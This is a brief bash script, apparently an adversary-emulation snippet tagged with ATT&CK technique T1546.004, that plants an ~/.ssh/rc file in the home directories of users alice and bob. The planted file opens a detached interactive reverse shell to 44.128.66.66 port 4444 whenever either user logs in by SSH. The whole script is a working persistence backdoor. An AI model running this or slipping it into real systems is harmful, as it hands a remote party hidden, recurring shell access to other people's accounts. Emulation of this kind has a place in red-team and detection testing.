#!/bin/bash
# T1546.004: A login by SSH starts something.
for u in alice bob; do printf '#!/bin/sh\nsetsid sh -c "sh -i >/dev/tcp/44.128.66.66/4444 0<&1" &\n' >/home/$u/.ssh/rc; chmod 755 /home/$u/.ssh/rc; done
